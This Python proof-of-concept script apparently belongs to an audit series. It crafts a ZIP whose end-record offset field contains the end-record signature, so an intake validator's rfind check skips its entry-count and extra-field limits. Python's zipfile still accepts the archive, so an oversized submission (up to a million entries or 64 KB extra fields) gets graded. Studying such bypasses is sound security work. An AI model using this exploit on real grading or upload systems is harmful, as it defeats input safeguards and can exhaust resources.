"""Row 2: the end record's central-directory offset field holds the bytes `PK\\x05\\x06` (0x06054B50).

usage: python sig_offset_zip.py OUT.zip entries [N]          N central-directory entries (default 1,000,000)
       python sig_offset_zip.py OUT.zip extras GELU_PY [N]   N entries with 65,532-byte extra fields (default 1,000)

intake.zip_entry_count finds the end record with `tail.rfind(b"PK\\x05\\x06")`: the LAST occurrence, which is now
inside the end record itself (its offset field, 16 bytes in), so `len(tail) < at + 22` and the zip is "not a zip"
(None): neither the entry count (round 8 row 5, round 9 row 6) nor the 1 KiB extra-field cap (round 9 row 14) is
checked. zipfile takes the end record at size - 22 (comment length 0), ignores the declared offset (it corrects it by
where the directory really is, `concat`) and builds every ZipInfo. The stored local-header offsets are shifted by
-concat so that zipfile reads student/gelu.py where it is: the zip is otherwise valid and its gelu.py is graded.
"""
import struct, sys, zlib

SIG = 0x06054B50
out, mode = sys.argv[1], sys.argv[2]
if mode == "entries":
    n, gelu, extra = int(sys.argv[3]) if len(sys.argv) > 3 else 1_000_000, b"def run_gelu(x):\n    return x\n", b""
    other = lambda i: b"x/%07d" % i
else:
    gelu, n = open(sys.argv[3], "rb").read(), int(sys.argv[4]) if len(sys.argv) > 4 else 1000
    extra = b"\x99\x99\x00\x00" * (65532 // 4)
    other = lambda i: b"notes/%07d" % i
name0 = b"student/gelu.py"
crc = zlib.crc32(gelu)
local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(gelu), len(gelu), len(name0), 0) + name0 + gelu
concat = len(local) - SIG  # zipfile: (end record's place) - cd_size - cd_offset; the directory starts at len(local)
stored_offset = 0 - concat  # what the directory says of the local header at 0, so that offset + concat = 0
cd = bytearray()
for i in range(n):
    name = name0 if i == 0 else other(i)
    size = len(gelu) if i == 0 else 0
    cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, crc if i == 0 else 0, size, size,
                      len(name), len(extra), 0, 0, 0, 0o644 << 16, stored_offset) + name + extra
eocd = struct.pack("<IHHHHIIH", SIG, 0, 0, min(n, 0xFFFF), min(n, 0xFFFF), len(cd), SIG, 0)
assert eocd[16:20] == b"PK\x05\x06"
with open(out, "wb") as f:
    f.write(local + bytes(cd) + eocd)
print(f"{out}: {len(local) + len(cd) + len(eocd)} bytes, {n} entries")
